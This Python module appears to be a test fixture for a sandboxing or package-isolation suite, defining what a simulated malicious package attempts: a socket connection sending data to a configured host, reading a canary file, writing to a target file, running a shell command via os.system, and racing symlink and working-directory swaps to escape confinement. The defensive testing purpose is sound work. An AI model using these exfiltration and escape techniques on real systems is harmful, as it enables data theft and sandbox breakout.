"""What the malicious package is after: plain code of its own.

The names in capitals that have no value here stand above it in each copy:
REACH, HOST, PORT, CANARY, TARGET, PYTHON; ROOT, a directory that holds app/,
private/, out/, home/ and tmp/; DEPS, where evil and good lie; and LIBRARY, what
the library's directory is called below a prefix.
"""

# A shell's command, and texts of programs, with the effect; each text can
# stand anywhere in a line, and needs nothing that is not in it.
COMMAND = f"echo evil > {TARGET}"
SOURCES = {
    "net": "import socket; s = socket.create_connection"
           f"(({HOST!r}, {PORT}), 10); s.sendall(b'evil'); s.close()",
    "read": f"import os; f = open({CANARY!r}); "
            "os.write(1, f.read().encode()); f.close()",
    "write": f"f = open({TARGET!r}, 'w'); f.write('evil'); f.close()",
    "run": f"import os; os.system({COMMAND!r})",
}
SOURCE = SOURCES[REACH]


def net():
    import socket
    with socket.create_connection((HOST, PORT), 10) as connection:
        connection.sendall(b"evil")


def read():
    import os
    with open(CANARY) as file:
        os.write(1, file.read().encode())


def write():
    with open(TARGET, "w") as file:
        file.write("evil")


def run():
    import os
    os.system(COMMAND)


act = {"net": net, "read": read, "write": write, "run": run}[REACH]


def race(turn, operate):
    """operate(), over and over until it returns True, while another
    thread does turn(); for a time of the processor, of which a busy machine
    gives little."""
    import threading
    import time
    ends = time.process_time() + 0.7

    def turning():
        while time.process_time() < ends:
            for _ in range(50):     # Else most of the time is the clock's.
                turn()

    thread = threading.Thread(target=turning)
    thread.start()
    done = False
    while not done and time.process_time() < ends:
        try:
            done = operate() is True
        except OSError:
            pass
    thread.join()


def turn_directory():
    """The working directory, to home/free, and to out/."""
    import os
    os.chdir(ROOT + "/home/free")
    os.chdir(ROOT + "/out")


def turn_link():
    """A link in home/, to home/free and to out/."""
    import os
    for target in ROOT + "/home/free", ROOT + "/out":
        os.symlink(target, ROOT + "/home/other")
        os.replace(ROOT + "/home/other", ROOT + "/home/link")
